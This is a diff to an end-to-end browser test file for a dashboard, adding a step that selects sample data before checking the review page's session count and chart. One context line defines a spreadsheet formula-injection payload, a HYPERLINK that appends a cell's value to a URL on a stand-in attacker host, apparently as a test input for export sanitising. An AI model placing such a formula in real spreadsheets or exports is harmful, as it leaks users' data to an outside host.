@@ -9,7 +9,7 @@ import pytest
 
 from dashboard.core.analysis.protocol import load_protocol
 from dashboard.ui.data import SAMPLE_DIR
-from tests.e2e.harness import download, expect, go_to, grid_rows, open_app, upload
+from tests.e2e.harness import download, expect, go_to, grid_rows, open_app, review_source, upload
 
 pytestmark = pytest.mark.e2e
 
@@ -26,6 +26,7 @@ FORMULA_NOTE = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")'
 
 def test_review_page_draws_the_sample_cohort_and_the_session_chart_with_its_limit_lines(page, server):
     open_app(page, server.url, "Review", "Review sessions")
+    review_source(page, "Sample data")  # the browser tests before this one left sessions in the store
     sample = pd.read_csv(SAMPLE_DIR / "sessions.csv")
     sessions = sample["session_id"].nunique()
     expect(page.get_by_text(f"Sessions ({sessions} of {sessions})")).to_be_visible()
